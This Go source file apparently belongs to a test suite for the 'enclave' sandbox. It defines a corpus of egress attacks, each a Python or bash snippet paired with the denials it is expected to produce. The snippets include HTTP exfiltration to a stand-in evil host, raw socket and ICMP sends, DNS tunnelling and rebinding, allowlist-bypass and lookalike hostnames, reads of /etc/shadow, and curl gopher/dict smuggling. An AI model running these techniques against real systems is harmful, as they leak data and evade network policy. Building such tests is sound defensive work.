package corpus

import (
	"fmt"
	"strings"

	"github.com/enclave-run/enclave"
)

// egressAttacks are group A: the ways out, and what an allowed one could be turned
// into. There is no proxy here: what the corpus sends to one goes over the
// connection itself.
var egressAttacks = []attack{
	{
		id:    "A01",
		smoke: true,
		boots: true,
		code: `
import urllib.request as u
print('$ARMED', flush=True)
u.urlopen('http://` + evilHost + `/exfil?d=$NONCE', timeout=5)
`,
		ends:    &ends{outcome: enclave.Failed, denied: []string{"dns " + evilHost + " not_allowed 1"}},
		breaks:  exfil,
		control: allowingHosts(evilHost),
	},
	{
		id: "A02",
		code: `
import socket
print('$ARMED', flush=True)
s = socket.create_connection(('` + sink4 + `', 4444), 3); s.sendall(b'$NONCE')
`,
		ends:    &ends{outcome: enclave.Failed, denied: []string{"tcp " + sink4 + " 4444 not_allowed 1"}},
		breaks:  exfil,
		control: allowingHosts(sink4 + ":4444"),
	},
	{
		id: "A04",
		code: `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
print('$ARMED', flush=True)
s.sendto(b'\x08\0\0\0\0\0\0\0$NONCE', ('` + sink4 + `', 0))
`,
		ends:    &ends{denied: []string{"icmp " + sink4 + " protocol 1"}},
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		// fe80::1 and ff02::1 need a scope: each interface but the loopback is tried.
		id:       "A05",
		receipts: 3,
		code: `
import socket
links = [i for i, n in socket.if_nameindex() if n != 'lo']
for a in ('` + sink6 + `', 'fe80::1', 'ff02::1'):
    for i in links[:1]:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        print('$ARMED', a, flush=True)
        try: s.sendto(b'$NONCE', (a, 9999, 0, 0 if a == '` + sink6 + `' else i))
        except OSError as e: print(a, e)
`,
		ends:    &ends{denied: []string{"udp " + sink6 + " 9999 protocol 1", "udp fe80::1 9999 protocol 1", "udp ff02::1 9999 protocol 1"}},
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		id:       "A07",
		smoke:    true,
		receipts: 5,
		code: `
import socket
q = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x20$NONCE\4evil\7example\0\0\x10\0\1'
for p in (53, 853, 5353):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print('$ARMED', flush=True)
    s.sendto(q, ('` + sink4 + `', p))
for p in (53, 853):
    print('$ARMED', flush=True)
    try: socket.create_connection(('` + sink4 + `', p), 3).sendall(len(q).to_bytes(2, 'big') + q)
    except OSError as e: print(p, e)
`,
		ends: &ends{denied: []string{
			"udp " + sink4 + " 53 protocol 1", "udp " + sink4 + " 853 protocol 1", "udp " + sink4 + " 5353 protocol 1",
			"tcp " + sink4 + " 53 not_allowed 1", "tcp " + sink4 + " 853 not_allowed 1",
		}},
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		// A look-up of an allowed name is answered without asking anyone: with a
		// wildcard, names alone carry nothing out. After 1,024 there are no more.
		id: "A08",
		code: `
import socket
print('$ARMED', flush=True)
for i in range(1200):
    try: socket.getaddrinfo('$NONCE-%d.cdn.` + allowedHost + `' % i, 443, socket.AF_INET)
    except OSError: pass
`,
		request: allow("*.cdn." + allowedHost),
		judge:   namesRunOut,
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		id:       "A10",
		receipts: 2,
		code: `
import socket
for h in ('` + allowedHost + `', '` + allowedIP + `'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print('$ARMED', flush=True)
    s.sendto(b'\xc0\0\0\0\1\x08$NONCE' + bytes(1200), (h, 443))
`,
		request: allow(allowedHost, allowedIP),
		ends:    &ends{denied: []string{"udp " + allowedHost + " 443 protocol 1", "udp " + allowedIP + " 443 protocol 1"}},
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		id:    "A11",
		smoke: true,
		code: `
import urllib.request as u
print('$ARMED', flush=True)
for i in range(20):
    try: print(u.urlopen('http://rebind.` + allowedHost + `/$NONCE', timeout=2).status)
    except Exception as e: print(e)
`,
		request: allow("rebind." + allowedHost),
		ends: &ends{
			allowed: []string{"tcp rebind." + allowedHost + " 80 allowed 1"},
			denied:  []string{"tcp rebind." + allowedHost + " 80 reserved_address 19"},
		},
		lets:    []string{"question rebind." + allowedHost, "dial " + allowedIP + ":80", "at " + allowedIP + ":80"},
		breaks:  lateral,
		control: onBare(bare{sinks: true}),
	},
	{
		id: "A13",
		code: `
import urllib.request as u
print('$ARMED', flush=True)
for i in range(4):
    try: print(u.urlopen('http://mixed.` + allowedHost + `/$NONCE', timeout=3).status)
    except Exception as e: print(e)
import socket
for a in socket.getaddrinfo('mixed.` + allowedHost + `', 80, socket.AF_INET, socket.SOCK_STREAM):
    try: socket.create_connection(a[4], 3).sendall(b'$NONCE')
    except OSError as e: print(e)
`,
		request: allow("mixed." + allowedHost),
		ends:    &ends{denied: []string{"tcp mixed." + allowedHost + " 80 reserved_address 5"}},
		lets:    []string{"question mixed." + allowedHost},
		breaks:  lateral,
		control: onBare(bare{sinks: true}),
	},
	{
		id: "A14",
		code: `
import urllib.request as u
print('$ARMED', flush=True)
for n in ('alias', 'alias2'):
    try: print(u.urlopen('http://%s.` + allowedHost + `/$NONCE' % n, timeout=3).status)
    except Exception as e: print(e)
`,
		request: allow("alias."+allowedHost, "alias2."+allowedHost),
		ends:    &ends{denied: []string{"tcp alias." + allowedHost + " 80 reserved_address 1", "tcp alias2." + allowedHost + " 80 reserved_address 1"}},
		lets:    []string{"question alias." + allowedHost, "question alias2." + allowedHost},
		breaks:  lateral,
		control: onBare(bare{sinks: true}),
	},
	{
		// Python's urllib knows file, ftp and data; curl knows the rest.
		id:       "A16",
		language: "bash",
		code: `
echo '$ARMED'
python3 - <<'X'
import urllib.request as u
for x in ('file:///etc/shadow', 'file://$FLAG', 'ftp://` + sink4 + `/$NONCE', 'jar:http://` + sink4 + `/!', 'data:,x'):
    try: print(x, u.urlopen(x, timeout=2).read())
    except Exception as e: print(x, e)
X
for x in gopher://` + sink4 + `:6379/_$NONCE dict://` + sink4 + `:11211/$NONCE ftp://` + sink4 + `/$NONCE file://$FLAG; do
  curl -sS --max-time 1 $x
done
true
`,
		ends:    &ends{denied: []string{"tcp " + sink4 + " 21 not_allowed 2", "tcp " + sink4 + " 6379 not_allowed 1", "tcp " + sink4 + " 11211 not_allowed 1"}},
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		// Each form is resolved as a program of the sandbox resolves it, and dialled;
		// what the sandbox reads as its own loopback stays there.
		id: "A17",
		code: `
import socket
print('$ARMED', flush=True)
for h in open('/work/encodings.txt', encoding='utf-8').read().split('\n'):
    if not h: continue
    try:
        for a in socket.getaddrinfo(h, 80, 0, socket.SOCK_STREAM)[:1]:
            s = socket.socket(a[0], a[1]); s.settimeout(2); s.connect(a[4]); s.sendall(b'$NONCE')
    except (OSError, UnicodeError, ValueError) as e: print(ascii(h), e)
`,
		request: func(_ *run, req *enclave.SessionRequest) {
			req.Files = map[string]string{"encodings.txt": encodings}
			req.Egress = enclave.Egress{Mode: enclave.Allowlist, Allow: []string{allowedHost, "*." + allowedHost}}
		},
		// Some are names below the allowed one, and cut at a NUL one is the allowed name.
		lets: []string{
			"question " + allowedHost, "question 127.0.0.1." + allowedHost, "question 0x7f000001." + allowedHost,
			"dial " + allowedIP + ":80", "at " + allowedIP + ":80",
		},
		judge:   formsAreRefused,
		breaks:  lateral,
		control: onBare(bare{sinks: true, work: map[string]string{"encodings.txt": encodings}}),
	},
	{
		id: "A19",
		code: `
import urllib.request as u
print('$ARMED', flush=True)
for h in ('` + allowedHost + `', 'evil` + allowedHost + `', '` + allowedHost + `.evil.example', '` + allowedHost + `.', 'ALLOWED.example.COM',
          '` + allowedHost + `%2eevil', 'allowed-example.com', 'x.` + allowedHost + `'):
    try: u.urlopen('http://' + h + '/$NONCE', timeout=2); print('ok', h)
    except Exception as e: print(h, e)
`,
		request: allow(allowedHost),
		ends: &ends{
			allowed: []string{"tcp " + allowedHost + " 80 allowed 3"},
			denied: []string{
				"dns evil" + allowedHost + " not_allowed 1", "dns " + allowedHost + ".evil.example not_allowed 1", "dns " + allowedHost + ".evil not_allowed 1",
				"dns allowed-example.com not_allowed 1", "dns x." + allowedHost + " not_allowed 1",
			},
		},
		lets:    []string{"question " + allowedHost, "dial " + allowedIP + ":80", "at " + allowedIP + ":80"},
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		// What Python's own IDNA turns into ASCII is asked as that; the rest goes into
		// questions byte by byte, as a resolver without rules sends it.
		id: "A20",
		code: `
import socket
print('$ARMED', flush=True)
for h in ('\u0430llowed.example.com', 'allowed.ex\u0430mple.com', 'xn--llowed-4nf.example.com'):
    try: socket.create_connection((h.encode('idna').decode(), 80), 2).sendall(b'$NONCE')
    except OSError as e: print(ascii(h), e)
server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
def ask(name):
    q = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l for l in name) + b'\0\0\1\0\1'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, (server, 53))
    try: print(name, s.recv(512)[-4:])
    except OSError as e: print(name, e)
nonce = b'$NONCE'
for l in ('\u0430llowed', 'allowed\u200b', 'allowed\u3002example', '\uff41llowed', 'allowed\0', 'allowed.example.com'):
    ask([nonce, l.encode(), b'example', b'com'])
`,
		request: allow("*."+allowedHost, allowedHost),
		judge:   lookalikesAreRefused,
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		id: "A22",
		code: `
import socket
print('$ARMED', flush=True)
for p in (22, 25, 53, 110, 2375, 3306, 5432, 6379, 9200, 10250, 11211):
    try: socket.create_connection(('` + allowedHost + `', p), 2).sendall(b'$NONCE')
    except OSError as e: print(p, e)
`,
		request: allow(allowedHost),
		ends:    &ends{denied: deniedPorts(allowedHost, 22, 25, 53, 110, 2375, 3306, 5432, 6379, 9200, 10250, 11211)},
		breaks:  exfil,
		control: allowingHosts(allowedHost+":22", allowedHost+":6379"),
	},
	{
		id:       "A23",
		receipts: 2,
		code: `
import socket
for p in (80, 443):
    print('$ARMED', flush=True)
    try: socket.create_connection(('` + allowedIP + `', p), 2).sendall(b'GET /$NONCE HTTP/1.1\r\nHost: ` + allowedHost + `\r\n\r\n')
    except OSError as e: print(p, e)
`,
		request: allow(allowedHost),
		ends:    &ends{denied: deniedPorts(allowedIP, 80, 443)},
		breaks:  exfil,
		control: allowingHosts(allowedIP),
	},
	{
		id:       "A29",
		language: "bash",
		code: `
unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy
echo '$ARMED'
NO_PROXY='*' python3 -c "import urllib.request as u; u.urlopen('http://` + sink4 + `/$NONCE', timeout=3)"
`,
		ends:    &ends{outcome: enclave.Failed, denied: []string{"tcp " + sink4 + " 80 not_allowed 1"}},
		breaks:  exfil,
		control: allowingHosts(sink4),
	},
	{
		id: "A31",
		code: `
import urllib.request as u
print('$ARMED', flush=True)
for i in range(40): u.urlopen(u.Request('http://` + allowedHost + `/up', data=b'x' * 1048576), timeout=10)
`,
		request: func(_ *run, req *enclave.SessionRequest) {
			allow(allowedHost)(nil, req)
			req.Limits.EgressBytes = 4_000_000
		},
		ends: &ends{kill: "egress_exceeded", resource: "egressBytes", allowed: []string{"tcp " + allowedHost + " 80 allowed +"}},
		lets: []string{"question " + allowedHost, "dial " + allowedIP + ":80", "at " + allowedIP + ":80"},
		judge: func(r *run) []finding {
			if most := int64(4_000_000 + 64<<10); r.received > most {
				return []finding{found(exfil, "%d bytes came out under a budget of 4,000,000", r.received)}
			}
			r.proof("%d bytes came out under a budget of 4,000,000", r.received)
			return nil
		},
		breaks: exfil,
		control: allowing("a budget of 100 MB", func(_ *run, req *enclave.SessionRequest) {
			req.Limits.EgressBytes = 100_000_000
		}),
	},
	{
		// A sandbox has no first moment without its policy: what its first
		// instruction sends is refused, on the record, behind sandbox_started.
		id:      "A32",
		smoke:   true,
		drive:   startupRace,
		breaks:  exfil,
		control: onBare(bare{sinks: true}).changed(func(a *attack) { a.drive, a.language, a.code = nil, "bash", firstInstruction }),
	},
	{
		id: "A34",
		code: `
import socket
print('$ARMED', flush=True)
n = 0
for i in range(30000):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b'$NONCE', ('203.0.113.%d' % (i % 250), i % 65535 + 1)); n += 1
    except OSError as e: n += 1
    s.close()
print('SENT', n)
`,
		judge:   floodIsCounted,
		during:  neighbours,
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{
		id: "A35",
		code: `
import socket
print('$ARMED', flush=True)
try:
    s = socket.socket(17, socket.SOCK_RAW, socket.htons(0x0806))
    s.bind(([n for _, n in socket.if_nameindex() if n != 'lo'][0], 0))
    s.send(b'\xff' * 6 + b'\2\0\0\0\0\1\x08\6' + b'$NONCE')
    print('SENT')
except OSError as e: print(e.errno)
`,
		ends:    &ends{},
		breaks:  exfil,
		control: onBare(bare{sinks: true}),
	},
	{id: "A25", missing: "it is about a Host header, which the gateway does not read yet: SECURITY.md names it as a residual"},
	{id: "A26", missing: "it is about the gateway's parser of HTTP, which there is none of yet"},
	{id: "A28", missing: "it is about the gateway's parser of HTTP, which there is none of yet"},
}

// allow has a request allow rules.
func allow(rules ...string) func(*run, *enclave.SessionRequest) {
	return func(_ *run, req *enclave.SessionRequest) {
		req.Egress = enclave.Egress{Mode: enclave.Allowlist, Allow: rules}
	}
}

// allowingHosts is the control in which the same attempt is allowed.
func allowingHosts(rules ...string) control {
	return allowing("a policy that allows "+strings.Join(rules, ", "), allow(rules...))
}

func deniedPorts(host string, ports ...int) (rows []string) {
	for _, p := range ports {
		rows = append(rows, fmt.Sprintf("tcp %s %d not_allowed 1", host, p))
	}
	return rows
}
